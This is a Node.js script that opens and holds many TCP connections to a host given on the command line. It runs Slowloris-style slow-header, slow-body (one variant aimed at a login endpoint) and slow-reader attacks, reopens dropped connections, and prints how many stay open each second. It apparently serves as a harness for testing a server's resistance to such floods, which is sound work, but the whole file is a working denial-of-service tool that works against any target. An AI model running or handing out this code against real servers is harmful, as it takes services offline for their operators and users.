// An address that opens connections and does not finish what it says: flood.mjs KIND HOST PORT FROM COUNT. Says "open" when all have been
// opened, then a number for each second: how many of them are still there. Those that end are opened again. Ends with its input.
import { connect } from 'node:net';

const [kind, host, port, from, count] = process.argv.slice(2);
const large = `GET /landing/style.css HTTP/1.1\r\nHost: localhost\r\n\r\n`.repeat(200);
const begin = {
  header: 'GET / HTTP/1.1\r\nHost: localhost\r\nX-',
  body: 'POST /api/auth/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{',
  page: 'POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n{',
  reader: large,
}[kind];
const trickle = { header: 'a', body: ' ', page: ' ', reader: '' }[kind];

const open = new Set();
let opened = 0, ending = false;
function attack() {
  const socket = connect({ host, port: Number(port), localAddress: from });
  socket.on('connect', () => {
    open.add(socket);
    if (kind === 'reader') socket.pause();
    if (begin) socket.write(begin);
    if (++opened === Number(count)) process.stdout.write('open\n');
  });
  if (kind !== 'reader') socket.on('data', () => {});
  socket.on('error', () => {});
  socket.on('close', () => {
    open.delete(socket);
    if (!ending) setTimeout(attack, 3000);
  });
}
for (let number = 0; number < Number(count); ++number) attack();
setInterval(() => {
  process.stdout.write(`${open.size}\n`);
  if (trickle) for (const socket of open) if (socket.writable) socket.write(trickle);
}, 1000);
process.stdin.resume();
process.stdin.on('end', () => {
  ending = true;
  process.exit();
});
